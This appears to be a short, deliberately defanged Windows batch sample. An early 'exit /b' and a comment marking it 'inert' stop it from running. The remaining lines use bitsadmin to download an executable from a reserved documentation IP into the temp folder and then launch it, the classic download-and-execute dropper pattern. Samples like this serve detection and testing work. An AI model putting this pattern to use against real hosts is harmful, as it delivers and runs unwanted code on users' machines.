exit /b
rem inert sample
bitsadmin /transfer job /download /priority high http://192.0.2.51/b.exe %TEMP%\b.exe
start "" "%TEMP%\b.exe"
